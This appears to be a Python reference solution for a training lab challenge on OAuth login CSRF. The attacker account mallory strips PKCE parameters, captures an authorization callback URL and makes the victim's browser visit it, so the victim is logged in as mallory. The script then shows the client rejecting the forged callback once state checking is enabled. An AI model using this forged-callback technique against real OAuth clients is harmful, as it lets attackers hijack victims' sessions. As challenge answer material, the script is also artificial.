# A reference solution for challenge 18.no_state: a code for mallory, delivered to alice's browser (login CSRF).
mallory = httpx.Client(trust_env=False)
mallory.post(f"{lab.flow.as_.url}/login", data={"username": MALLORY[0], "password": MALLORY[1]})


def forged_callback():
    """mallory starts a login at the client, leaves PKCE out, and keeps the callback URL instead of following it."""
    request = query_of(mallory.get(f"{lab.flow.client.url}/login").headers["location"])
    request.pop("code_challenge")
    request.pop("code_challenge_method")
    return mallory.get(f"{lab.flow.as_.url}/authorize", params=request).headers.get("location")


lab.flow.victim.visit(forged_callback())
print("alice's browser is logged in as", lab.flow.victim.me())
lab.flow.disable("no_state")
print(lab.flow.victim.visit(forged_callback())[-1])            # the client now checks state: 400
challenge.check()
